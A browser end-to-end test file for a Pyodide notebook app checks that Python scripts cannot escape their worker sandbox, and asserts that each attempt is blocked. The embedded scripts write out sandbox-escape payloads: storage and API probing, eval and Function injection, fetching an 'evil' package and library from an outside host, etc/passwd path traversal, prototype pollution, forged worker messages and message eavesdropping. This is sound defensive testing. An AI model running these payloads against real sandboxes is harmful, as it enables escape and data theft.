// Longer than most files: the scripts that attack are a good half of it, each beside what has to come of it.
import type { CellPart } from './pages/CellPart.ts';
import type { NotebookPage } from './pages/NotebookPage.ts';
import { expect, test } from './fixtures.ts';
import { readStoredThings, type StoredThings } from './stored-things.ts';

/** Tries things that a script is not to do, and prints for each what came of it. */
function attackScript(attempts: string): string {
  return `import asyncio, json, js, pyodide_js, re
from onelogic.odpf.common import ODDataset
from pyodide.code import run_js
from pyodide.ffi import JsException, run_sync, to_js
rows = []
def attempt(name, work):
    try:
        rows.append([name, f"got {work()}"])
    except JsException as error:
        rows.append([name, f"{error.name}"])
    except BaseException as error:
        rows.append([name, f"{type(error).__name__}: {error}"])
def to_object(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
def walk(start):
    names = set()
    while isinstance(start, type(js)):
        names.update(js.Object.getOwnPropertyNames(start))
        start = js.Object.getPrototypeOf(start)
    return names
${attempts}
print("outcomes", json.dumps(rows))
od_output.add_data("outcomes", ODDataset(rows, ["attempt", "outcome"]))`;
}

/** Runs the script and gives what it printed of its attempts. */
async function readOutcomes(cell: CellPart): Promise<[string, string][]> {
  await cell.run();
  await cell.expectState('Done');
  await cell.tab('Logs').click();
  await expect(cell.log).toContainText(/outcomes \[.*\]\]/s);
  // A long line is drawn in pieces.
  const pieces = await cell.log.locator('.text').allInnerTexts();
  const text = /outcomes (\[.*\])/s.exec(pieces.join(''))?.[1] ?? '[]';
  return JSON.parse(text) as [string, string][];
}

/** Nothing of what was stored has changed; the script's own job has come. */
function expectKept(before: StoredThings, after: StoredThings): void {
  const { sessions = [], jobs = [], logs = [], blobs = [], ...settled } = before.stores;
  expect(after.databases).toEqual(before.databases);
  expect(after.stores).toEqual({
    ...settled,
    sessions: expect.arrayContaining([...sessions]),
    jobs: expect.arrayContaining([...jobs]),
    logs: expect.arrayContaining([...logs]),
    blobs: expect.arrayContaining([...blobs]),
  });
  // The app keeps itself and its Python there.
  const strangers = [...after.caches, ...after.files].filter((name) => !name.startsWith('cahier'));
  expect(strangers).toEqual([]);
}

async function setMode(notebook: NotebookPage, mode: string): Promise<void> {
  await notebook.workspace.getByRole('button', { name: /^Network:/ }).click();
  await notebook.page.getByRole('radio', { name: mode }).check();
  await notebook.page.keyboard.press('Escape');
}

const worksScript =
  'from onelogic.odpf.common import ODDataset\nod_output.add_data("a", ODDataset([[1]], ["works"]))';

/** The app works as before: a cell runs to its table. */
async function expectWorking(cell: CellPart): Promise<void> {
  await cell.replaceSource(worksScript);
  await cell.run();
  await cell.expectState('Done');
  await cell.tab('Result Table').click();
  await cell.expectRows([['1']]);
}

const doors = [
  'indexedDB',
  'caches',
  'cookieStore',
  'Worker',
  'SharedWorker',
  'BroadcastChannel',
  'WebSocket',
  'EventSource',
  'importScripts',
  'Notification',
  'close',
];

test('a script finds no door to what the page keeps, and what is stored stays as it is', async ({
  notebook,
  page,
}) => {
  const keeper = await notebook.addScript(worksScript);
  await keeper.run();
  await keeper.expectState('Done');
  await notebook.workspace.getByRole('button', { name: 'New notebook' }).click();
  const attempts = `
for name in ${JSON.stringify(doors)}:
    attempt(f"js.{name}", lambda: getattr(js, name))
    attempt(f"js.self.{name}", lambda: getattr(js.self, name))
for name in ["storage", "locks", "serviceWorker", "storageBuckets", "permissions", "sendBeacon", "usb", "hid", "serial", "gpu"]:
    attempt(f"js.navigator.{name}", lambda: getattr(js.navigator, name))
families = re.compile("^(IDB|FileSystem[A-Z]|Storage|Cache|Cookie|Lock|ServiceWorker|BackgroundFetch|Push|RTC|WebSocket|WebTransport|webkit)|^(${doors.join('|')})$")
attempt("names of the scope", lambda: [name for name in walk(js.globalThis) if families.match(name)])
attempt("names of the navigator", lambda: [name for name in walk(js.navigator) if name in ("storage", "locks", "serviceWorker")])
attempt("the scope's class", lambda: [name for name in walk(js.self.constructor.prototype) if families.match(name)])
attempt("the file system of Python", lambda: pyodide_js._module.FS.filesystems.IDBFS.indexedDB())
pyodide_js._module.FS.mkdir("/kept")
given = []
pyodide_js._module.FS.mount(pyodide_js._module.FS.filesystems.IDBFS, to_object({}), "/kept")
attempt("a mount of the database", lambda: pyodide_js._module.FS.filesystems.IDBFS.getDB("/kept", lambda *of: given.append(len(of))) or given)
attempt("a mount of files", lambda: run_sync(pyodide_js.mountNativeFS("/kept", js.navigator)))
`;
  const cell = await notebook.addScript(attackScript(attempts));
  await expect
    .poll(async () =>
      (await readStoredThings(page)).stores['notebooks']?.some((text) => text.includes('mountNativeFS')),
    )
    .toBe(true);
  const before = await readStoredThings(page);
  expect(await readOutcomes(cell)).toEqual([
    ...doors.flatMap((name) => [
      [`js.${name}`, `AttributeError: ${name}`],
      [`js.self.${name}`, `AttributeError: ${name}`],
    ]),
    ...[
      'storage',
      'locks',
      'serviceWorker',
      'storageBuckets',
      'permissions',
      'sendBeacon',
      'usb',
      'hid',
      'serial',
      'gpu',
    ].map((name) => [`js.navigator.${name}`, `AttributeError: ${name}`]),
    ['names of the scope', 'got []'],
    ['names of the navigator', 'got []'],
    ["the scope's class", 'got []'],
    ['the file system of Python', 'got jsnull'],
    // An error, and no database behind it.
    ['a mount of the database', 'got [1]'],
    ['a mount of files', 'TypeError'],
  ]);
  expectKept(before, await readStoredThings(page));
  await expectWorking(cell);
});

test('a script makes no code out of text, and loads none from elsewhere', async ({ notebook, outside }) => {
  await setMode(notebook, 'none');
  const attempts = `
code = "self.leaked = true"
attempt("run_js", lambda: run_js(code))
attempt("eval", lambda: js.eval(code))
attempt("Function", lambda: js.Function.new(code))
attempt("Function of an object", lambda: js.Object.constructor.new(code))
attempt("a function with an import", lambda: js.Object.getPrototypeOf(js.fetch).constructor.new("return import('${outside.url}/a.js')"))
attempt("setTimeout", lambda: js.setTimeout(code) and None)
attempt("setInterval", lambda: js.setInterval(code) and None)
attempt("an event handler", lambda: setattr(js.self, "onerror", code))
attempt("a package from elsewhere", lambda: run_sync(pyodide_js.loadPackage("${outside.url}/evil-1.0-py3-none-any.whl")))
attempt("the package", lambda: __import__("evil"))
attempt("a library from elsewhere", lambda: run_sync(pyodide_js._module.loadDynamicLibrary("${outside.url}/evil.so", to_object({"loadAsync": True}))))
attempt("a font from elsewhere", lambda: run_sync(js.FontFace.new("evil", "url(${outside.url}/evil.woff2)").load()))
def requested(request, url):
    request.open("GET", url, False)
    request.send()
    return request.status
attempt("the browser's own request", lambda: requested(js.Object.getPrototypeOf(js.XMLHttpRequest).new(), "${outside.url}/evil"))
attempt("the scope's fetch", lambda: "fetch" in walk(js.Object.getPrototypeOf(js.self)))
run_sync(asyncio.sleep(0.1))
attempt("what leaked", lambda: js.self.leaked)
`;
  const cell = await notebook.addScript(attackScript(attempts));
  expect(await readOutcomes(cell)).toEqual([
    ['run_js', 'EvalError'],
    ['eval', 'EvalError'],
    ['Function', 'EvalError'],
    ['Function of an object', 'EvalError'],
    ['a function with an import', 'EvalError'],
    ['setTimeout', 'got 0'],
    ['setInterval', 'got 0'],
    ['an event handler', 'got None'],
    ['a package from elsewhere', 'got '],
    ['the package', "ModuleNotFoundError: No module named 'evil'"],
    ['a library from elsewhere', 'Error'],
    ['a font from elsewhere', 'NetworkError'],
    ["the browser's own request", 'NetworkError'],
    ["the scope's fetch", 'got False'],
    ['what leaked', 'AttributeError: leaked'],
  ]);
  expect(outside.arrivals).toEqual([]);
  await expectWorking(cell);
});

test('a script reads what the site shows everybody, and answers for no other kernel', async ({
  notebook,
  outside,
  site,
}) => {
  const other = '4f5b7f0c-3c0e-4b43-9d2c-0d8d6f3c8a11';
  const attempts = `
def asked(path, **options):
    answer = run_sync(js.fetch("${site.url}" + path, to_object(options)))
    text = run_sync(answer.text())
    return [answer.status, answer.headers.get("x-cahier-refused"), json.loads(text) if text.startswith("{") else text[:15]]
target = js.encodeURIComponent("${outside.url}/secret")
attempt("a page", lambda: asked("index.html"))
attempt("a file that is not there", lambda: asked("secret.txt")[0])
attempt("a file above the site", lambda: asked("..%2f..%2fetc/passwd")[0])
attempt("a change of a file", lambda: asked("index.html", method="PUT", body="evil")[0])
attempt("another kernel's gate", lambda: asked(f"-/out/${other}/{target}"))
attempt("no kernel's gate", lambda: asked(f"-/out/x/{target}"))
attempt("another kernel's mail", lambda: asked("-/mail/${other}"))
attempt("no kernel's mail", lambda: asked("-/mail/x"))
attempt("mail to another kernel", lambda: asked("-/mail/${other}", method="POST", body='{"isStopAsked": true}'))
`;
  const cell = await notebook.addScript(attackScript(attempts));
  expect(await readOutcomes(cell)).toEqual([
    ['a page', "got [200, jsnull, '<!doctype html>']"],
    ['a file that is not there', 'got 404'],
    ['a file above the site', 'got 404'],
    ['a change of a file', 'got 405'],
    [
      "another kernel's gate",
      "got [403, 'policy', {'error': 'policy', 'reason': 'No open page answers for this kernel, so it reaches no other host.'}]",
    ],
    ["no kernel's gate", "got [403, 'policy', {'error': 'policy', 'reason': 'There is no such kernel.'}]"],
    ["another kernel's mail", "got [200, jsnull, {'isStopAsked': False}]"],
    ["no kernel's mail", "got [403, 'policy', {'error': 'policy', 'reason': 'There is no such kernel.'}]"],
    [
      'mail to another kernel',
      "got [403, 'policy', {'error': 'policy', 'reason': 'Mail is fetched with GET.'}]",
    ],
  ]);
  expect(outside.arrivals).toEqual([]);
  await expectWorking(cell);
});

/** Messages that a script sends the page in the worker's name; nobody hears them. */
const messages: readonly (readonly [what: string, script: string])[] = [
  ['a second start', 'js.postMessage(to_object({"type": "started", "start": {"pythonVersion": "9"}}))'],
  ['garbage', 'js.postMessage("garbage")'],
  ['a breakdown', 'js.postMessage(to_object({"type": "kernel-failed", "message": "evil"}))'],
  [
    'a text of 100 MB',
    'js.postMessage(to_object({"type": "job-event", "runId": "x", "event": {"type": "input-asked", "prompt": "x" * 100_000_000}}))',
  ],
  [
    'a command to itself',
    'js.self.dispatchEvent(js.MessageEvent.new("message", to_object({"data": {"type": "make-snapshot"}})))',
  ],
];

/** Events of its own job that a script forges through the object that the SDK reports by, and how its cell ends. */
const forgeries: readonly (readonly [
  what: string,
  script: string,
  state: 'Done' | 'Failed',
  words: string,
])[] = [
  ['an event of no known type', 'find_host().emit({"type": "evil"})', 'Failed', 'was not understood'],
  [
    'an event that changes the prototype of all objects',
    `find_host()._host.emit(js.JSON.parse('{"type": "script-started", "__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'))`,
    'Done',
    '',
  ],
  [
    'a log without end',
    'for _ in range(1_000): find_host().emit({"type": "log-added", "entries": [{"time": 1, "stream": "stdout", "text": "x" * 1_000_000}]})',
    'Failed',
    'its log has no end',
  ],
  [
    'a prompt of 10 MB',
    'find_host().emit({"type": "input-asked", "prompt": "x" * 10_000_000})',
    'Failed',
    'was not understood',
  ],
];

function forge(script: string): string {
  return `import asyncio, js, sys
from onelogic.odpf.common import ODDataset
from pyodide.ffi import run_sync, to_js
def to_object(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
def find_host():
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("host"), "emit"):
        frame = frame.f_back
    return frame.f_locals["host"]
${script}
run_sync(asyncio.sleep(1))
od_output.add_data("a", ODDataset([[1]], ["own"]))`;
}

test('a script that forges messages is not heard, and harms its own run at most', async ({
  notebook,
  page,
}) => {
  test.setTimeout(240_000);
  const cell = await notebook.addScript(forge(messages.map(([, script]) => script).join('\n')));
  await cell.run();
  await cell.expectState('Done');
  for (const [what, script, state, words] of forgeries) {
    await test.step(what, async () => {
      await cell.replaceSource(forge(script));
      await cell.run();
      await cell.expectState(state);
      if (state === 'Failed') await expect(cell.error).toContainText(words);
      await expectWorking(cell);
      expect(await page.evaluate(() => Reflect.get({}, 'polluted') as unknown)).toBeUndefined();
    });
  }
});

test('a script that listens in the worker does not hear what the page says to the next one', async ({
  notebook,
}) => {
  const cell = await notebook.addScript(`import js
from pyodide.ffi import create_proxy, to_js
def to_object(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
heard = js.Array.new()
js.globalThis.heard = heard
js.self.addEventListener("message", create_proxy(lambda event: heard.push("a message")))
def spy(what):
    return create_proxy(lambda this, *of: heard.push(what) and None, capture_this=True)
js.Object.defineProperty(js.MessageEvent.prototype, "data", to_object({"get": spy("what arrived")}))
js.Object.defineProperty(js.MessagePort.prototype, "postMessage", to_object({"value": spy("what was sent")}))
js.MessageChannel.new().port1.postMessage(1)
js.MessageEvent.new("message").data
${worksScript}`);
  await cell.run();
  await cell.expectState('Done');
  await cell.replaceSource(`import js
print("heard:", list(js.globalThis.heard))
${worksScript}`);
  await cell.run();
  await cell.expectState('Done');
  await cell.tab('Logs').click();
  await expect(cell.log).toContainText("heard: ['what was sent', 'what arrived']");
});
